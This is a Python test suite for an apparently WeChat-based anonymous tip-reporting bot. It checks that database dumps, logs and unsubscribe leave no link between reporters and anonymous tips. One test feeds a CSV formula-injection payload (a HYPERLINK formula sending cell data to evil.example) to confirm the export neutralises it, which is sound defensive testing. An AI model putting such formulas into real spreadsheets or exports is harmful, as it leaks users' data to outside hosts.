"""Leak nothing: a dump of the store, the logs and the exports name no anonymous reporter."""

from __future__ import annotations

import logging
from collections.abc import Awaitable, Callable
from datetime import timedelta

import pytest
from sqlalchemy import func, select, text

from bot import loggers
from bot.typedefs import engine_key, keys_key, sessionmaker_key, sweeper_key
from handlers.tips.rules import load_rules
from handlers.tips.views import export_csv
from simulator import FakeClock, FakeWeChat
from storage.models import (
    Base,
    EnrolmentCode,
    OfficerAlert,
    Tip,
    TipEvent,
    UnansweredQuestion,
)
from storage.users import EnrolmentRepo
from tests.conftest import Bot
from tests.test_tips import _file_tip, _resolve, say, tips

StartBot = Callable[..., Awaitable[Bot]]


async def dump(bot: Bot) -> dict[str, list[dict[str, str]]]:
    """Every row of every table, values as text: what a leaked backup shows."""
    tables: dict[str, list[dict[str, str]]] = {}
    async with bot.app[engine_key].connect() as conn:
        for table in Base.metadata.sorted_tables:
            rows = (await conn.execute(table.select())).mappings().all()
            tables[table.name] = [
                {k: str(v) for k, v in row.items() if v is not None} for row in rows
            ]
    return tables


def holding(tables: dict[str, list[dict[str, str]]], needle: str) -> list[str]:
    return [
        f"{name}.{column}"
        for name, rows in tables.items()
        for row in rows
        for column, value in row.items()
        if needle in value
    ]


async def test_a_dump_ties_no_anonymous_tip_to_its_reporter(
    bot: Bot, clock: FakeClock, platform: FakeWeChat
) -> None:
    me = "o-whistle-9c1d"
    platform.follow(me)
    named = await _file_tip(bot, me)  # a named tip…
    secret = await _file_tip(bot, me, anonymous=True)  # …and an anonymous one by the same person
    await say(bot, me, "举报")
    await say(bot, me, "5")
    emergency = await say(bot, me, "楼下有人持刀打人")  # an emergency in the middle of it
    assert "立即拨打 110" in emergency
    await say(bot, me, "取消")
    await _resolve(bot, secret, "已查处")  # officers act: the reporter is told
    await say(bot, me, "我的举报")
    clock.advance(600)  # WeChat's retries are long over
    await bot.app[sweeper_key].prune()

    tables = await dump(bot)
    anonymous = [t for t in tables["tips"] if t["anonymous"] in ("True", "1")]
    assert {t["code"] for t in anonymous} >= {secret.code}
    for tip in anonymous:
        # The tip's own values appear nowhere but on the tip (its id in its own events).
        for column in ("code", "reporter_sealed"):
            assert holding(tables, tip[column]) == [f"tips.{column}"], column
        assert me not in str(tip)
        assert tip.get("reporter_name") is None and tip.get("reporter_phone") is None
    # No value repeats between the person's named and anonymous tips that would join them.
    named_row = next(t for t in tables["tips"] if t["code"] == named.code)
    for tip in anonymous:
        assert named_row["reporter_sealed"] != tip["reporter_sealed"]
    # Where the openid is stored, no tip code, sealed value or tip time stands beside it.
    for name, rows in tables.items():
        for row in rows:
            if any(me in value for value in row.values()):
                assert not any(t["code"] in str(row) for t in anonymous), name
                assert not any(t["created_at"] in row.values() for t in anonymous), name
    # Handled messages keep no sender once WeChat's retries are over, and finished pushes no
    # addressee: neither can be lined up with the times of the anonymous tips.
    assert all("user_key" not in row for row in tables["deliveries"])
    assert all("openid" not in row for row in tables["outbound_messages"])
    # Every stored hash of the person is keyed: the plain SHA-256 of the openid is nowhere.
    import hashlib

    assert holding(tables, hashlib.sha256(me.encode()).hexdigest()) == []
    # The reporter still follows their tips (through the sealed index on their profile).
    assert secret.code in await say(bot, me, "我的举报")


async def test_a_report_keeps_its_anonymity_through_alarming_words(bot: Bot) -> None:
    me = "o-drugs"
    for answer in ("举报", "5"):
        await say(bot, me, answer)
    # 正在 + the 偷 of 偷偷 once fired the emergency route and filed a named red tip.
    assert "地点" in await say(bot, me, "有人正在偷偷贩毒，就在村东头的仓库")
    for answer in ("跳过", "完成", "1", "1"):
        await say(bot, me, answer)
    [tip] = await tips(bot)
    assert (tip.source, tip.anonymous, tip.reporter_name) == ("guided", True, None)
    async with bot.app[sessionmaker_key]() as session:
        alerts = await session.scalar(select(func.count()).select_from(OfficerAlert))
    assert alerts == 1  # 贩毒 makes it red: the officers' alert, not an emergency page


async def test_store_errors_log_no_openid_and_no_text(
    start_bot: StartBot, caplog: pytest.LogCaptureFixture
) -> None:
    bot = await start_bot()
    engine = bot.app[engine_key]
    sqlite = engine.dialect.name == "sqlite"
    async with engine.begin() as conn:  # make every new tip fail, quoting its text
        if sqlite:
            await conn.execute(
                text(
                    "CREATE TRIGGER refuse BEFORE INSERT ON tips "
                    "BEGIN SELECT RAISE(ABORT, 'refused'); END"
                )
            )
        else:
            await conn.execute(
                text(
                    "CREATE FUNCTION refuse() RETURNS trigger AS $$ BEGIN "
                    "RAISE EXCEPTION 'refused %', NEW.description; END $$ LANGUAGE plpgsql"
                )
            )
            await conn.execute(
                text("CREATE TRIGGER refuse BEFORE INSERT ON tips EXECUTE FUNCTION refuse()")
            )
    # Logging as `pingan serve` sets it up, at its most talkative level.
    caplog.set_level(logging.DEBUG)
    loggers.configure("DEBUG")
    me, words = "o-secret-openid-42", "救命 有人持刀 暗号XYZ123"
    try:
        answer = await say(bot, me, words)
    finally:
        async with engine.begin() as conn:  # PostgreSQL keeps triggers across tests
            await conn.execute(text("DROP TRIGGER refuse" + ("" if sqlite else " ON tips")))
            if not sqlite:
                await conn.execute(text("DROP FUNCTION refuse()"))
        for name in loggers.DRIVERS:
            logging.getLogger(name).setLevel(logging.NOTSET)
    assert "系统繁忙" in answer
    logged = "\n".join(f"{r.getMessage()}\n{r.exc_text or ''}" for r in caplog.records)
    assert "handler failed" in logged
    assert me not in logged and "XYZ123" not in logged


async def test_csv_export_keeps_formulas_as_text(bot: Bot) -> None:
    me = "o-formula"
    for answer in ("举报", "8", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "@SUM(1)"):
        await say(bot, me, answer)
    for answer in ("完成", "1", "1"):
        await say(bot, me, answer)
    [tip] = await tips(bot)
    exported = export_csv([tip], load_rules())
    assert "'=HYPERLINK" in exported and "'@SUM(1)" in exported
    assert ",=HYPERLINK" not in exported and ',"=HYPERLINK' not in exported


async def test_a_supplement_over_several_lines_is_one_supplement(bot: Bot) -> None:
    me = "o-lines"
    tip = await _file_tip(bot, me)
    answer = await say(bot, me, f"补充 {tip.code} 第一行：车是蓝色的\n第二行：车牌 蒙G12345")
    assert "已补充" in answer
    async with bot.app[sessionmaker_key]() as session:
        notes = (
            (await session.execute(select(TipEvent.note).where(TipEvent.action == "supplement")))
            .scalars()
            .all()
        )
        gaps = await session.scalar(select(func.count()).select_from(UnansweredQuestion))
    assert notes == ["第一行：车是蓝色的\n第二行：车牌 蒙G12345"]
    assert gaps == 0  # not mistaken for an unanswered question shown to staff


async def test_unsubscribe_leaves_nothing_that_ties_the_openid_to_content(
    bot: Bot, clock: FakeClock, platform: FakeWeChat
) -> None:
    from datetime import UTC, datetime

    me = "o-leaving"
    platform.follow(me)
    now = datetime.fromtimestamp(clock(), tz=UTC)
    async with bot.app[sessionmaker_key].begin() as session:
        await EnrolmentRepo(session).create(
            code="P9", role="patrol", community_id=None, now=now, expires_at=now + timedelta(1)
        )
    await bot.sender.scan(me, "e:P9")
    tip = await _file_tip(bot, me, anonymous=True)
    await _resolve(bot, tip, "已处理")
    await bot.sender.unsubscribe(me)
    tables = await dump(bot)
    for name, rows in tables.items():
        for row in rows:
            assert me not in str(row), name
    assert holding(tables, tip.code) == ["tips.code"]
    async with bot.app[sessionmaker_key]() as session:
        code = await session.get(EnrolmentCode, "P9")
        [kept] = (await session.execute(select(Tip))).scalars().all()
    assert code is not None and code.used_by is None and code.used_at is not None
    assert kept.reporter_sealed is None
    assert bot.app[keys_key].mac("enrolment", me) not in str(tables)
